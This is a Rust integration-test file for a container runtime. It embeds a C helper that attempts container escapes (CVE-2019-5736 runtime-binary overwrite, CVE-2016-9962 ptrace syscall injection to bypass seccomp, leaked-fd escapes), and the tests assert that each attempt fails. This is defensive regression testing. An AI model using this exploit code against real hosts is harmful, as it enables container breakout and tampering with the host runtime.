//! Container-escape attacks, actually attempted, that must fail: CVE-2019-5736 (overwriting
//! the runtime through /proc/PID/exe), CVE-2016-9962 (ptrace and leaked fds of runtime
//! processes that enter the container), CVE-2024-21626 (leaked fds, `cwd` through
//! /proc/self/fd), CVE-2021-30465 (symlinks and swaps in mount destinations), undoing masked
//! and read-only paths, seccomp actions, and failed creates that must leave nothing behind.
//!
//! The attacks run a static C helper ([`SECHELPER_C`], compiled with `gcc -static` at test
//! time and bind-mounted read-only at /run/sechelper) or busybox inside the container. Each
//! test owns its containers through [`Container`], so they are deleted even when an
//! assertion fails. Everything runs against runc too (`AMBER_RUNTIME=/usr/sbin/runc`);
//! amber-only expectations are gated with `is_amber()`.

use amber_integration::*;
use serde_json::{json, Value};
use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Where the helper is bind-mounted in the container (on a tmpfs at /run).
const HELPER: &str = "/run/sechelper";

/// The attack helper. Every subcommand prints `KEY ...` lines on stdout for the test to parse.
const SECHELPER_C: &str = r###"/* amber-it security helper: a static binary run inside test containers (bind-mounted in).
 * Every subcommand prints KEY lines on stdout that the test parses.
 *   watch SECS MAXCATCH MARKER  CVE-2019-5736 / CVE-2016-9962: catch runtime processes that
 *                               enter the container, open their /proc/PID/exe, try to overwrite
 *                               it and to re-execute it, and look for leaked host fds
 *   fds PID MARKER              inspect the fds, cwd and root of PID (leaked host fds)
 *   inject PID PATH             CVE-2016-9962: ptrace PID and make it mkdir PATH for us
 *   race-inject SECS PATH       the same against every runtime process that enters the
 *                               container, attached as soon as the kernel allows it
 *   mkdir PATH                  mkdir(2) and print the errno
 *   sysinfo                     sysinfo(2) and print the errno
 *   lock PATH SECS              take a POSIX write lock on PATH and hold it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/sysinfo.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void out(const char *fmt, ...) {
    char buf[8192];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (n > (int)sizeof buf - 1) n = sizeof buf - 1;
    /* one write(2) per line: other processes share the console file */
    if (write(1, buf, n) < 0) {}
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int escapes, host_writable;

/* Walk ".." from the directory `path` names (a magic link into another process) far past any
 * root, then look for the host-only marker: found means the directory is outside the container. */
static void try_escape(const char *path, const char *marker) {
    int d = open(path, O_PATH | O_DIRECTORY);
    if (d < 0) return;
    for (int i = 0; i < 64; i++) {
        int nd = openat(d, "..", O_PATH | O_DIRECTORY);
        close(d);
        if (nd < 0) return;
        d = nd;
    }
    struct stat st;
    if (fstatat(d, marker + 1, &st, 0) == 0) {
        out("ESCAPE via %s: host marker %s is reachable\n", path, marker);
        escapes++;
    }
    close(d);
}

static void inspect(int pid, const char *marker) {
    char p[PATH_MAX], link[PATH_MAX];
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    if (!d) {
        out("FDS pid=%d unreadable errno=%d\n", pid, errno);
    } else {
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            snprintf(p, sizeof p, "/proc/%d/fd/%s", pid, e->d_name);
            ssize_t n = readlink(p, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            struct stat st;
            int reg = stat(p, &st) == 0 && S_ISREG(st.st_mode);
            int w = -1;
            if (reg && strncmp(link, "/memfd:", 7) != 0) {
                /* opening for writing is the attack; nothing is written */
                w = open(p, O_WRONLY | O_APPEND | O_NONBLOCK | O_NOCTTY);
                if (w >= 0) close(w);
            }
            out("FD pid=%d fd=%s -> %s%s\n", pid, e->d_name, link,
                w >= 0 ? " (regular file, opened for writing)" : "");
            if (w >= 0 && e->d_name[0] != '0' && strcmp(e->d_name, "1") && strcmp(e->d_name, "2")) {
                out("HOSTFILE pid=%d fd=%s -> %s writable\n", pid, e->d_name, link);
                host_writable++;
            }
            try_escape(p, marker);
        }
        closedir(d);
    }
    snprintf(p, sizeof p, "/proc/%d/cwd", pid);
    try_escape(p, marker);
    snprintf(p, sizeof p, "/proc/%d/root", pid);
    try_escape(p, marker);
}

struct caught {
    int pid, fd_path, fd_ro;
    char exe[PATH_MAX];
};

static int ends_with(const char *s, const char *suf) {
    size_t a = strlen(s), b = strlen(suf);
    return a >= b && strcmp(s + a - b, suf) == 0;
}

static void errno_note(char *buf, size_t len, const char *what, int err) {
    char one[64];
    snprintf(one, sizeof one, "%s:%d ", what, err);
    if (!strstr(buf, one) && strlen(buf) + strlen(one) < len) strcat(buf, one);
}

static int cmd_watch(double secs, int maxcatch, const char *marker) {
    static int seen[65536];
    int nseen = 0;
    struct caught c[16];
    int nc = 0;
    char self[PATH_MAX];
    ssize_t sn = readlink("/proc/self/exe", self, sizeof self - 1);
    self[sn < 0 ? 0 : sn] = 0;
    if (maxcatch > 16) maxcatch = 16;
    out("WATCH start pid=%d\n", getpid());
    double deadline = now() + secs;
    while (now() < deadline && nc < maxcatch) {
        DIR *d = opendir("/proc");
        if (!d) { out("WATCH opendir /proc errno=%d\n", errno); return 1; }
        struct dirent *e;
        while ((e = readdir(d)) && nc < maxcatch) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            int known = 0;
            for (int i = 0; i < nseen; i++)
                if (seen[i] == pid) { known = 1; break; }
            if (known) continue;
            char p[64], link[PATH_MAX];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            ssize_t n = readlink(p, link, sizeof link - 1);
            if (n < 0) {
                /* EACCES: not ptrace-readable yet (the runtime still holds more capabilities
                 * than we do, or is not dumpable): look again on the next pass */
                if (errno != EACCES && nseen < 65536) seen[nseen++] = pid;
                continue;
            }
            link[n] = 0;
            if (nseen < 65536) seen[nseen++] = pid;
            if (strcmp(link, self) == 0 || ends_with(link, "/busybox")) continue;
            struct caught *k = &c[nc++];
            k->pid = pid;
            snprintf(k->exe, sizeof k->exe, "%s", link);
            k->fd_path = open(p, O_PATH);
            int e1 = errno;
            k->fd_ro = open(p, O_RDONLY);
            int e2 = errno;
            out("FOUND pid=%d exe=%s opath=%s rdonly=%s\n", pid, link,
                k->fd_path >= 0 ? "ok" : strerror(e1), k->fd_ro >= 0 ? "ok" : strerror(e2));
            inspect(pid, marker);
        }
        closedir(d);
    }
    int found = nc, opened = 0, write_ok = 0, write_fail = 0;
    for (int i = 0; i < nc; i++) {
        struct caught *k = &c[i];
        int fd = k->fd_path >= 0 ? k->fd_path : k->fd_ro;
        if (fd < 0) continue;
        opened++;
        /* like the original exploit: keep trying while the runtime runs (ETXTBSY) and after */
        char errs[512] = "";
        char sp[64];
        snprintf(sp, sizeof sp, "/proc/self/fd/%d", fd);
        double end = now() + 1.5;
        int ok = 0, fail = 0;
        while (now() < end) {
            int w = open(sp, O_WRONLY | O_TRUNC);
            if (w >= 0) {
                if (write(w, "#!/bin/sh\necho pwned\n", 21) == 21) ok++;
                else { fail++; errno_note(errs, sizeof errs, "write", errno); }
                close(w);
            } else {
                fail++;
                errno_note(errs, sizeof errs, "open_trunc", errno);
            }
            w = open(sp, O_WRONLY);
            if (w >= 0) {
                if (pwrite(w, "pwned", 5, 0) == 5) ok++;
                else { fail++; errno_note(errs, sizeof errs, "pwrite", errno); }
                close(w);
            } else {
                fail++;
                errno_note(errs, sizeof errs, "open_wronly", errno);
            }
            usleep(2000);
        }
        out("WRITE pid=%d exe=%s ok=%d fail=%d errnos=%s\n", k->pid, k->exe, ok, fail, errs);
        write_ok += ok;
        write_fail += fail;
        if (i == 0) {
            /* re-execute the runtime's image: what do we get? */
            pid_t ch = fork();
            if (ch == 0) {
                ptrace(PTRACE_TRACEME, 0, 0, 0);
                char *av[] = {"reexec", "--version", NULL};
                char *ev[] = {NULL};
                execve(sp, av, ev);
                _exit(100 + (errno & 0x7f) % 100);
            }
            int st = 0;
            waitpid(ch, &st, 0);
            if (WIFSTOPPED(st)) {
                char p[64], link[PATH_MAX];
                snprintf(p, sizeof p, "/proc/%d/exe", ch);
                ssize_t n = readlink(p, link, sizeof link - 1);
                link[n < 0 ? 0 : n] = 0;
                out("REEXEC exe=%s\n", link);
                kill(ch, SIGKILL);
                waitpid(ch, &st, 0);
            } else {
                out("REEXEC failed status=%d\n", st);
            }
        }
    }
    out("SUMMARY found=%d opened=%d write_ok=%d write_fail=%d escapes=%d host_writable=%d\n",
        found, opened, write_ok, write_fail, escapes, host_writable);
    out("DONE\n");
    return 0;
}

/* Make the seized and stopped `pid` run mkdirat(AT_FDCWD, PATH, 0755): a `syscall`
 * instruction is written over the code at rip (ptrace may write to text), single-stepped, and
 * the code and registers are restored. The syscall runs under the tracee's seccomp filter (if it
 * has one yet), not ours. Returns the syscall's result. */
static long inject_mkdir(int pid, const char *path) {
    int st = 0;
    struct user_regs_struct saved, r;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) != 0) return -1000 - errno;
    errno = 0;
    long code = ptrace(PTRACE_PEEKTEXT, pid, saved.rip, 0);
    if (errno != 0) return -2000 - errno;
    unsigned long addr = (saved.rsp - 4096) & ~15UL;
    size_t len = strlen(path) + 1;
    for (size_t i = 0; i < len; i += 8) {
        long w = 0;
        memcpy(&w, path + i, len - i < 8 ? len - i : 8);
        ptrace(PTRACE_POKEDATA, pid, addr + i, w);
    }
    long patched = (code & ~0xffffL) | 0x050f;
    if (ptrace(PTRACE_POKETEXT, pid, saved.rip, patched) != 0) return -3000 - errno;
    r = saved;
    r.rax = SYS_mkdirat;
    r.orig_rax = -1;
    r.rdi = (unsigned long)AT_FDCWD;
    r.rsi = addr;
    r.rdx = 0755;
    ptrace(PTRACE_SETREGS, pid, 0, &r);
    ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
    waitpid(pid, &st, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &r);
    ptrace(PTRACE_POKETEXT, pid, saved.rip, code);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    return (long)r.rax;
}

/* CVE-2016-9962: attach to a runtime process that sits in the container (a non-dumpable one
 * answers EPERM) and make it run a syscall for us. */
static int cmd_inject(int pid, const char *path) {
    int st = 0;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
        out("PTRACE attach pid=%d errno=%d\n", pid, errno);
        return 0;
    }
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 || waitpid(pid, &st, __WALL) != pid) {
        out("PTRACE interrupt pid=%d errno=%d\n", pid, errno);
        return 0;
    }
    long ret = inject_mkdir(pid, path);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    out("PTRACE injected pid=%d mkdirat(%s) ret=%ld\n", pid, path, ret);
    return 0;
}

/* The same against `exec`: every new process in the container that is not busybox (or not yet
 * readable: the runtime still has more capabilities than we do) is attached as soon as the
 * kernel allows it, i.e. right after it dropped its capabilities. If its seccomp filter is not
 * loaded by then, the injected mkdirat succeeds. */
static int cmd_race_inject(double secs, const char *path) {
    static int seen[65536];
    int nseen = 0, attached = 0, bypassed = 0, tried = 0;
    char self[PATH_MAX];
    ssize_t sn = readlink("/proc/self/exe", self, sizeof self - 1);
    self[sn < 0 ? 0 : sn] = 0;
    out("RACE start pid=%d\n", getpid());
    double deadline = now() + secs;
    while (now() < deadline && !bypassed) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d)) && !bypassed) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            int known = 0;
            for (int i = 0; i < nseen; i++)
                if (seen[i] == pid) { known = 1; break; }
            if (known) continue;
            if (nseen < 65536) seen[nseen++] = pid;
            char p[64], link[PATH_MAX];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            ssize_t n = readlink(p, link, sizeof link - 1);
            if (n >= 0) {
                link[n] = 0;
                if (strcmp(link, self) == 0 || ends_with(link, "/busybox")) continue;
            } else if (errno != EACCES) {
                continue;
            }
            tried++;
            double give_up = now() + 0.5;
            int ok = 0;
            while (now() < give_up) {
                if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) { ok = 1; break; }
                if (errno == ESRCH) break;
            }
            if (!ok) continue;
            int st = 0;
            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 || waitpid(pid, &st, __WALL) != pid) {
                ptrace(PTRACE_DETACH, pid, 0, 0);
                continue;
            }
            attached++;
            n = readlink(p, link, sizeof link - 1);
            link[n < 0 ? 0 : n] = 0;
            long ret = inject_mkdir(pid, path);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            out("RACE pid=%d exe=%s mkdirat ret=%ld\n", pid, link, ret);
            if (ret == 0) bypassed++;
        }
        closedir(d);
    }
    out("SUMMARY tried=%d attached=%d bypassed=%d\nDONE\n", tried, attached, bypassed);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 5 && !strcmp(argv[1], "watch"))
        return cmd_watch(atof(argv[2]), atoi(argv[3]), argv[4]);
    if (argc >= 4 && !strcmp(argv[1], "fds")) {
        inspect(atoi(argv[2]), argv[3]);
        out("SUMMARY escapes=%d host_writable=%d\nDONE\n", escapes, host_writable);
        return 0;
    }
    if (argc >= 4 && !strcmp(argv[1], "race-inject"))
        return cmd_race_inject(atof(argv[2]), argv[3]);
    if (argc >= 4 && !strcmp(argv[1], "inject"))
        return cmd_inject(atoi(argv[2]), argv[3]);
    if (argc >= 3 && !strcmp(argv[1], "mkdir")) {
        int r = mkdir(argv[2], 0755);
        out("mkdir errno=%d\n", r == 0 ? 0 : errno);
        return 0;
    }
    if (argc >= 2 && !strcmp(argv[1], "sysinfo")) {
        struct sysinfo si;
        int r = sysinfo(&si);
        out("sysinfo errno=%d\n", r == 0 ? 0 : errno);
        return 0;
    }
    if (argc >= 4 && !strcmp(argv[1], "lock")) {
        int fd = open(argv[2], O_RDWR);
        if (fd < 0) { out("lock open errno=%d\n", errno); return 1; }
        struct flock fl = {.l_type = F_WRLCK, .l_whence = SEEK_SET};
        int r = fcntl(fd, F_SETLK, &fl);
        out("lock errno=%d\n", r == 0 ? 0 : errno);
        sleep(atoi(argv[3]));
        return 0;
    }
    fprintf(stderr, "usage: sechelper watch|fds|mkdir|sysinfo|lock ...\n");
    return 2;
}
"###;

/// Compile the helper into `dir` (a directory the test owns).
fn helper_in(dir: &Path) -> PathBuf {
    compile_static_c(dir, "sechelper", SECHELPER_C)
}

fn tools_dir() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("amber-it-sectools.")
        .tempdir()
        .expect("tools tempdir")
}

/// tmpfs at /run with the helper bound read-only at [`HELPER`], and a writable /tmp.
fn add_helper(b: &mut Bundle, helper: &Path) {
    b.tmpfs("/run");
    b.bind(helper, HELPER, &["ro"]);
    b.tmpfs("/tmp");
}

/// `key=N` from a `SUMMARY ...` line of the helper.
#[track_caller]
fn summary(report: &str, key: &str) -> i64 {
    let line = report
        .lines()
        .rfind(|l| l.starts_with("SUMMARY "))
        .unwrap_or_else(|| panic!("no SUMMARY line in the helper's report:\n{report}"));
    line.split_whitespace()
        .find_map(|kv| kv.strip_prefix(&format!("{key}=")).map(str::to_string))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("no {key}= in {line:?}"))
}

/// A host file that no container can see: finding it from inside means an escape.
fn host_marker(c: &Container) -> PathBuf {
    let p = c.work_dir().join("host-marker");
    fs::write(&p, "host only\n").expect("write marker");
    p
}

fn path_str(p: &Path) -> String {
    p.to_string_lossy().into_owned()
}

/// Names in the host's / that the rootfs lacks: seeing one from inside means an escape.
fn host_only_root_entries() -> Vec<String> {
    let names = |dir: &Path| -> Vec<String> {
        fs::read_dir(dir)
            .unwrap_or_else(|e| panic!("read {}: {e}", dir.display()))
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect()
    };
    let inside = names(&rootfs());
    let only: Vec<String> = names(Path::new("/"))
        .into_iter()
        .filter(|n| !inside.contains(n))
        .collect();
    assert!(
        !only.is_empty(),
        "the host root has no entry the rootfs lacks: nothing to detect"
    );
    only
}

/// `create` with the runtime (and so every helper process it forks) marked by
/// `AMBER_IT_MARK=<id>` in its environment, so leftovers can be found by [`assert_failed_cleanly`].
fn create_marked(c: &Container) -> Output {
    c.bundle.write();
    let pid_file = path_str(&c.pid_file());
    let bundle = c.bundle.path_str();
    let mut cmd = c.command(&["create", "--bundle", &bundle, "--pid-file", &pid_file, &c.id]);
    cmd.env("AMBER_IT_MARK", &c.id);
    c.run_console(cmd, &[])
}

/// A create that failed left no state dir, pid file, cgroup, mount or process.
#[track_caller]
fn assert_failed_cleanly(c: &Container, out: &Output) {
    out.assert_fail();
    assert!(
        !c.state_dir().exists(),
        "failed create left {}: {out}",
        c.state_dir().display()
    );
    assert!(!c.pid_file().exists(), "failed create wrote a pid file: {out}");
    let mut names = vec![c.id.clone()];
    if let Some(p) = c.bundle.cgroups_path() {
        names.push(p.trim_start_matches('/').to_string());
    }
    let cgroups = find_cgroup_dirs(&names);
    assert!(cgroups.is_empty(), "failed create left cgroups {cgroups:?}: {out}");
    let mut mounts = host_mounts_mentioning(&c.id);
    mounts.extend(host_mounts_mentioning(&c.bundle.path_str()));
    assert!(mounts.is_empty(), "failed create left mounts {mounts:?}: {out}");
    // The runtime reaps what it forked before it exits; give a killed process a moment.
    let deadline = Instant::now() + Duration::from_secs(2);
    let procs = loop {
        let procs = procs_with_env("AMBER_IT_MARK", &c.id);
        if procs.is_empty() || Instant::now() >= deadline {
            break procs;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let described: Vec<String> = procs.iter().map(|p| format!("{p} ({})", proc_comm(*p))).collect();
    for p in &procs {
        // SAFETY: kill(2) of a process that carries this test's unique marker.
        unsafe {
            libc::kill(*p, libc::SIGKILL);
        }
    }
    assert!(procs.is_empty(), "failed create left processes {described:?}: {out}");
}

/// `<runtime> --root R exec ID args...` with captured output.
fn exec(c: &Container, args: &[&str]) -> Output {
    let mut a = vec!["exec", c.id.as_str()];
    a.extend_from_slice(args);
    c.rt(&a)
}

/// Sorted fd numbers from `ls /proc/self/fd` output.
fn fd_list(out: &str) -> Vec<u32> {
    let mut v: Vec<u32> = out.lines().filter_map(|l| l.trim().parse().ok()).collect();
    v.sort_unstable();
    v
}

// ---------------------------------------------------------------------------------
// CVE-2019-5736 and CVE-2016-9962: runtime processes that enter the container

/// The original exploit: a process in the container watches /proc for a runtime process that
/// joins the container (`exec`), opens its /proc/PID/exe and keeps trying to open it for
/// writing and write it (O_WRONLY|O_TRUNC through /proc/self/fd/N, ETXTBSY until the runtime
/// exits) to replace the host's runtime binary. The `#!/proc/self/exe` script variant makes the
/// exec'd process re-execute the runtime's own image inside the container. The watcher also
/// re-executes what it caught (under ptrace, to read the new /proc/PID/exe) and tries every fd
/// of the caught process to reach the host (walking `..` out of a leaked directory).
///
/// The runtime is exec'd from a private copy, so a successful attack damages only the copy;
/// both the copy and `$AMBER_RUNTIME` must hash the same afterwards.
#[test]
fn cve_2019_5736_runtime_exe_cannot_be_overwritten() {
    let tools = tools_dir();
    let helper = helper_in(tools.path());
    let mut b = Bundle::new();
    let rootfs = b.private_rootfs();
    // The host's loader and libraries, so that the (dynamically linked) runtime image can
    // really be re-executed inside the busybox rootfs.
    for dir in ["/lib64", "/lib/x86_64-linux-gnu"] {
        let Ok(host) = fs::canonicalize(dir) else { continue };
        fs::create_dir_all(rootfs.join(&dir[1..])).expect("mkdir in private rootfs");
        b.bind(&host, dir, &["ro"]);
    }
    add_helper(&mut b, &helper);
    let mut c = Container::new("cve-2019-5736", b);
    let marker = host_marker(&c);
    let rt = runtime();
    let rt_copy = c.work_dir().join(rt.file_name().expect("runtime file name"));
    fs::copy(&rt, &rt_copy).expect("copy the runtime");
    fs::set_permissions(&rt_copy, fs::Permissions::from_mode(0o755)).unwrap();
    let sum_rt = sha256_file(&rt);
    let sum_copy = sha256_file(&rt_copy);
    c.bundle.args(&[
        "sh",
        "-c",
        &format!(
            "printf '#!/proc/self/exe\\n' > /tmp/evil && chmod 755 /tmp/evil && {HELPER} watch 40 3 {}; sleep 600",
            marker.display()
        ),
    ]);
    c.create_ok();
    c.start_ok();
    wait_for_content(&c.stdout_path(), "WATCH start");

    // Trigger: plain execs (the runtime's exec process is in the container until it execs) and
    // the #!/proc/self/exe script, alternately, until the watcher caught three.
    let mut execs = 0;
    for i in 0..150 {
        let target = if i % 2 == 0 { "/tmp/evil" } else { "true" };
        let mut cmd = Command::new(&rt_copy);
        cmd.arg("--root").arg(c.root()).args(["exec", &c.id, target]);
        let _ = run_captured(cmd, &[]);
        execs += 1;
        let so_far = c.stdout();
        if so_far.matches("FOUND ").count() >= 3 || so_far.contains("SUMMARY") {
            break;
        }
    }
    let mut report = String::new();
    wait_for_timeout("the watcher's report", Duration::from_secs(60), || {
        report = c.stdout();
        report.contains("DONE")
    });
    eprintln!("after {execs} execs, the watcher reported:\n{report}");

    let found = summary(&report, "found");
    let opened = summary(&report, "opened");
    assert!(
        found >= 1,
        "the attack never saw a runtime process in the container:\n{report}"
    );
    assert!(
        opened >= 1,
        "the attack never opened a runtime's /proc/PID/exe:\n{report}"
    );
    assert_eq!(
        summary(&report, "write_ok"),
        0,
        "a write to the runtime's exe succeeded:\n{report}"
    );
    assert!(summary(&report, "write_fail") > 0, "{report}");
    assert_eq!(
        summary(&report, "escapes"),
        0,
        "a leaked fd reached the host:\n{report}"
    );
    assert_eq!(
        summary(&report, "host_writable"),
        0,
        "a runtime process in the container held a writable host file:\n{report}"
    );
    for line in report.lines().filter(|l| l.starts_with("FOUND ")) {
        let exe = line
            .split(" exe=")
            .nth(1)
            .and_then(|s| s.split(" opath=").next())
            .unwrap_or("");
        assert!(
            !exe.starts_with(&path_str(&rt_copy)) && !exe.starts_with(&path_str(&rt)),
            "/proc/PID/exe of a runtime process in the container names the host binary: {line}"
        );
        if is_amber() {
            // src/security/exe.rs: create/run/exec run from a sealed memfd copy.
            assert!(exe.starts_with("/memfd:"), "{line}");
        }
    }
    let reexec = report
        .lines()
        .find(|l| l.starts_with("REEXEC "))
        .unwrap_or_else(|| panic!("no REEXEC line:\n{report}"));
    assert!(
        !reexec.contains(&path_str(&rt_copy)) && !reexec.contains(&path_str(&rt)),
        "re-executing the runtime's exe ran the host binary: {reexec}"
    );
    if is_amber() {
        assert!(reexec.starts_with("REEXEC exe=/memfd:"), "{reexec}");
    }
    assert_eq!(
        sha256_file(&rt_copy),
        sum_copy,
        "the runtime binary the execs ran was modified"
    );
    assert_eq!(sha256_file(&rt), sum_rt, "{} was modified", rt.display());
}

/// CVE-2016-9962: while a container is `created`, its init waits for `start` inside the
/// container. Any process in the container (here an exec'd one) can look at its fds through
/// /proc/1/fd. None may be a host directory (escape by walking `..`), nor a writable host file
/// other than its stdio (engines pass `--log`: the container must not be able to forge or
/// truncate the runtime's log).
#[test]
fn created_init_exposes_no_host_fds() {
    let tools = tools_dir();
    let helper = helper_in(tools.path());
    let mut b = Bundle::new();
    add_helper(&mut b, &helper);
    b.args(&["sleep", "600"]);
    let c = Container::new("created-init-fds", b);
    let marker = host_marker(&c);
    let log = path_str(&c.work_dir().join("log.json"));
    c.create_with(&["--log", &log, "--log-format", "json"], &[]).assert_ok();
    let out = exec(&c, &[HELPER, "fds", "1", &path_str(&marker)]);
    out.assert_ok();
    eprintln!("{}", out.stdout);
    assert_eq!(summary(&out.stdout, "escapes"), 0, "{out}");
    // amber's waiting init still holds <root>/<id>/lock (read-write; see the next test for
    // what a container process can do with it) and the --log file.
    assert_eq!(
        summary(&out.stdout, "host_writable"),
        0,
        "the created container's init holds a host file that the container can open for writing: {out}"
    );
}

/// The consequence of a state lock held by the waiting init: a process in the container takes
/// the runtime's lock through /proc/1/fd/N and every later `kill`/`delete` of the container
/// blocks for as long as the container wants. `kill` must not wait on the container.
#[test]
fn container_cannot_hold_the_runtime_state_lock() {
    let tools = tools_dir();
    let helper = helper_in(tools.path());
    let mut b = Bundle::new();
    add_helper(&mut b, &helper);
    b.args(&["sleep", "600"]);
    let c = Container::new("state-lock", b);
    c.create_ok();
    // Lock every regular file (other than stdio) the init holds, for 8 s.
    let script = format!(
        "for f in /proc/1/fd/*; do n=${{f##*/}}; [ $n -gt 2 ] && [ -f $f ] && {HELPER} lock $f 8 & done; sleep 9"
    );
    let mut locker = Background::spawn(c.command(&["exec", &c.id, "sh", "-c", &script]));
    std::thread::sleep(Duration::from_millis(500));
    let started = Instant::now();
    let mut kill = Background::spawn(c.command(&["kill", &c.id, "KILL"]));
    let mut finished = None;
    while started.elapsed() < Duration::from_secs(4) {
        if let Some(o) = kill.try_finish() {
            finished = Some(o);
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    // A blocked kill goes on once the helper lets go of the lock (after 8 s).
    let kill_out = kill.wait_timeout(Duration::from_secs(15));
    let blocked_for = started.elapsed();
    let locks = locker.stdout();
    locker.kill();
    eprintln!("locker: {locks}\nkill: {kill_out}");
    assert!(
        finished.is_some(),
        "`kill` blocked for {blocked_for:?} on a lock a container process took through /proc/1/fd ({locks:?})"
    );
}

/// CVE-2016-9962: a process in the container ptraces the created container's init (same uid,
/// no more capabilities than ours, dumpable) and makes it run a syscall that the container's
/// seccomp profile forbids. With noNewPrivileges the filter must already be in place while the
/// init waits for `start` (runc loads it before that wait), or the attach must be refused.
#[test]
fn created_init_cannot_be_used_to_bypass_seccomp() {
    let tools = tools_dir();
    let helper = helper_in(tools.path());
    let mut b = Bundle::new();
    add_helper(&mut b, &helper);
    b.args(&["sleep", "600"]);
    b.set(
        "/linux/seccomp",
        json!({
            "defaultAction": "SCMP_ACT_ALLOW",
            "syscalls": [{ "names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 42 }]
        }),
    );
    let c = Container::new("ptrace-init", b);
    c.create_ok();
    // The filter applies to exec'd processes (the attacker).
    let direct = exec(&c, &[HELPER, "mkdir", "/tmp/direct"]);
    assert!(direct.stdout.contains("mkdir errno=42"), "{direct}");
    let inject = exec(&c, &[HELPER, "inject", "1", "/tmp/bypassed"]);
    eprintln!("{inject}");
    let ls = exec(&c, &["ls", "/tmp"]);
    ls.assert_ok();
    assert!(
        !ls.stdout.lines().any(|l| l == "bypassed"),
        "the init made a mkdirat the seccomp profile forbids, on behalf of a container process: {inject}"
    );
}

/// CVE-2016-9962 against `exec`: the runtime's process joins the container, drops its
/// capabilities and only then (with noNewPrivileges) loads the seccomp filter and execs. A
/// process in the container that attaches to it in between (same uid, capabilities no longer a
/// superset of ours) runs syscalls the profile forbids. runc keeps that process non-dumpable
/// until execve, so the attach is refused.
#[test]
fn exec_process_cannot_be_used_to_bypass_seccomp() {
    let tools = tools_dir();
    let helper = helper_in(tools.path());
    let mut b = Bundle::new();
    add_helper(&mut b, &helper);
    b.set(
        "/linux/seccomp",
        json!({
            "defaultAction": "SCMP_ACT_ALLOW",
            "syscalls": [{ "names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 42 }]
        }),
    );
    b.args(&["sh", "-c", &format!("{HELPER} race-inject 12 /tmp/bypassed; sleep 600")]);
    let c = Container::new("ptrace-exec", b);
    c.create_ok();
    c.start_ok();
    wait_for_content(&c.stdout_path(), "RACE start");
    let mut execs = 0;
    while execs < 80 && !c.stdout().contains("DONE") {
        let _ = exec(&c, &["true"]);
        execs += 1;
    }
    let mut report = String::new();
    wait_for_timeout("the attacker's report", Duration::from_secs(30), || {
        report = c.stdout();
        report.contains("DONE")
    });
    eprintln!("after {execs} execs:\n{report}");
    let ls = exec(&c, &["ls", "/tmp"]);
    ls.assert_ok();
    assert!(
        summary(&report, "bypassed") == 0 && !ls.stdout.lines().any(|l| l == "bypassed"),
        "a container process made the runtime's exec process run a mkdirat its seccomp profile forbids:\n{report}"
    );
}

// ---------------------------------------------------------------------------------
// CVE-2024-21626: fds of the runtime must not reach the container process

#[test]
fn init_has_only_stdio_and_preserved_fds() {
    let mut b = Bundle::new();
    b.args(&["ls", "/proc/self/fd"]);
    let c = Container::new("init-fds", b);
    let out = c.run_foreground();
    out.assert_ok();
    // 0-2, and ls's own directory fd
    assert_eq!(fd_list(&out.stdout), [0, 1, 2, 3], "{out}");

    let mut b = Bundle::new();
    b.args(&["ls", "/proc/self/fd"]);
    let c = Container::new("init-fds-preserve", b);
    let f1 = tempfile::tempfile().unwrap();
    let f2 = tempfile::tempfile().unwrap();
    let out = c.run_with(&["--preserve-fds", "2"], &[raw_fd(&f1), raw_fd(&f2)]);
    out.assert_ok();
    assert_eq!(fd_list(&out.stdout), [0, 1, 2, 3, 4, 5], "{out}");
}

#[test]
fn exec_has_only_stdio_and_preserved_fds() {
    let mut b = Bundle::new();
    b.args(&["sleep", "600"]);
    let c = Container::new("exec-fds", b);
    c.create_ok();
    c.start_ok();
    let out = exec(&c, &["ls", "/proc/self/fd"]);
    out.assert_ok();
    assert_eq!(fd_list(&out.stdout), [0, 1, 2, 3], "{out}");
    let f = tempfile::tempfile().unwrap();
    let out = run_captured(
        c.command(&["exec", "--preserve-fds", "1", &c.id, "ls", "/proc/self/fd"]),
        &[raw_fd(&f)],
    );
    out.assert_ok();
